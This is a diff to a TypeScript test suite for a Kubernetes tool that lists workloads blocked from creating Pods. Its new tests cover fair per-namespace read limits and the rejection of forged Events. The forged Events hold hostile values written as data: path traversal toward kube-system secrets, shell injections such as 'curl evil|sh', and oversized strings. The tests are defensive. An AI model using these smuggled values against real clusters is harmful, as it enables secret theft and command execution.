@@ -174,10 +174,54 @@ describe('the workloads that cannot create Pods because of Pillion', () => {
     expect(blocked).toEqual(['CloneSet/young', 'ReplicaSet/old', 'constructor/odd'])
   })
 
-  it('are read 500 at most', async () => {
-    const events = Array.from({ length: 3_000 }, (_, i) => failedCreate('Job', `job-${i}`, denial))
-    const { calls } = await found(events, {})
-    expect(calls.filter(({ path }) => path.startsWith(batch))).toHaveLength(500)
+  it('are read 500 at most, of all namespaces alike', async () => {
+    const inNamespace = (namespace: string, count: number) =>
+      Array.from({ length: count }, (_, i) => {
+        const event = failedCreate('Job', `job-${i}`, denial)
+        return { ...event, involvedObject: { ...(event['involvedObject'] as JsonObject), namespace } }
+      })
+    const readIn = async (events: readonly JsonObject[]) => {
+      const { calls } = await found(events, {})
+      const paths = calls.flatMap(({ path }) => path.match(/namespaces\/([^/]+)\/jobs/)?.[1] ?? [])
+      return Object.fromEntries(
+        [...Map.groupBy(paths, name => name)].map(([name, all]) => [name, all.length]),
+      )
+    }
+    expect(await readIn([...inNamespace('flood', 3_000), ...inNamespace('shop', 2)])).toEqual({
+      flood: 50,
+      shop: 2,
+    })
+    const many = Array.from({ length: 20 }, (_, i) => inNamespace(`team-${i}`, 40)).flat()
+    const read = Object.values(await readIn(many))
+    expect(read).toHaveLength(20)
+    expect(Math.max(...read)).toBe(25)
+    const more = Array.from({ length: 700 }, (_, i) => inNamespace(`team-${i}`, 1)).flat()
+    expect(Object.keys(await readIn(more))).toHaveLength(500)
+  })
+
+  // Users with the role `edit` may create Events.
+  it('are not what a forged Event names: a path, a command, a text that fills the memory', async () => {
+    const forged = (involved: JsonObject, message = denial) => ({
+      ...failedCreate('ReplicaSet', 'a', message),
+      involvedObject: { kind: 'ReplicaSet', namespace: 'shop', name: 'a', uid: 'u', ...involved },
+    })
+    const { blocked, calls } = await found(
+      [
+        forged({ name: '../../../../../../api/v1/namespaces/kube-system/secrets/x' }),
+        forged({ name: '..' }),
+        forged({ name: 'a?watch=true' }),
+        forged({ kind: 'CloneSet', name: 'a;curl evil|sh' }),
+        forged({ kind: '$(curl evil)' }),
+        forged({ kind: 'CloneSet', name: 'x'.repeat(254) }),
+        forged({ kind: 'CloneSet', uid: 'x'.repeat(1_000_000) }),
+        forged({ kind: 'CloneSet', namespace: '../kube-system' }),
+      ],
+      {},
+    )
+    expect(blocked).toEqual([])
+    expect(calls.map(({ path }) => path)).toEqual(['/api/v1/events'])
+    const { first } = await found([forged({ kind: 'CloneSet' }, `${denial}${'x'.repeat(1_000_000)}`)], {})
+    expect(first?.message.length).toBe(2_048)
   })
 
   it('are unknown if the API server refuses', async () => {
